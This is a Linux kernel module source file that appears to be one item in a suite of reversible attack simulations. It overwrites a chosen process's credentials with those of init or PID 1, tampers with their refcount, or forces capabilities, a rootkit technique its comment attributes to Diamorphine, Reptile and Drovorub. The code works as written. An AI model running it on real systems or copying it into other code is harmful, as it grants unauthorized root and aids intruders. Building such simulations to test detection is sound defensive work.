// SPDX-License-Identifier: GPL-2.0 OR Apache-2.0
/*
 * Technique: a process gets credentials without the kernel's ways: those of the first task (how=init), those of another
 * process (how=shared) or those for acting alone (how=acting), capabilities raised in place (how=capabilities), credentials
 * that count as freed (how=freed).
 * Who: exploits (commit_creds(&init_cred)), Diamorphine, Reptile, Drovorub: root by a signal.
 * Changes: the credentials of the process `pid`. Undone when it is unloaded.
 */
#include "attack.h"

#include <linux/cred.h>
#include <linux/pid.h>
#include <linux/sched.h>
#include <linux/sched/task.h>

VARIANT("init");
static int pid;
module_param(pid, int, 0);

static struct task_struct *task;
static const struct cred *original, *originally_acting;
static kernel_cap_t permitted, effective;
static u64 usage;

static void set(const struct cred *real, const struct cred *acting)
{
	rcu_assign_pointer(task->real_cred, real);
	rcu_assign_pointer(task->cred, acting);
}

static int __init start(void)
{
	struct cred *own;

	rcu_read_lock();
	task = get_pid_task(find_vpid(pid), PIDTYPE_PID);
	rcu_read_unlock();
	if (!task)
		return -ESRCH;
	original = rcu_dereference_raw(task->real_cred);
	originally_acting = rcu_dereference_raw(task->cred);
	own = (struct cred *)original;
	permitted = own->cap_permitted;
	effective = own->cap_effective;
	if (HOW("init")) {
		const struct cred *first = rcu_dereference_raw(init_task.real_cred);

		set(first, first);
	} else if (HOW("freed")) {
		memcpy(&usage, &own->usage, sizeof(own->usage));
		memset(&own->usage, 0, sizeof(own->usage));
	} else if (HOW("shared") || HOW("acting")) {
		const struct cred *others = rcu_dereference_raw(current->real_cred);
		struct task_struct *first;

		rcu_read_lock();
		first = pid_task(find_vpid(1), PIDTYPE_PID);
		others = rcu_dereference_raw(first->real_cred);
		rcu_read_unlock();
		set(HOW("acting") ? original : others, others);
	} else {
		memset(&own->cap_permitted, 0, sizeof(own->cap_permitted));
		memset(&own->cap_effective, 0xff, sizeof(own->cap_effective));
	}
	return 0;
}

static void __exit stop(void)
{
	struct cred *own = (struct cred *)original;

	set(original, originally_acting);
	if (HOW("freed"))
		memcpy(&own->usage, &usage, sizeof(own->usage));
	own->cap_permitted = permitted;
	own->cap_effective = effective;
	put_task_struct(task);
}

ATTACK(start, stop);
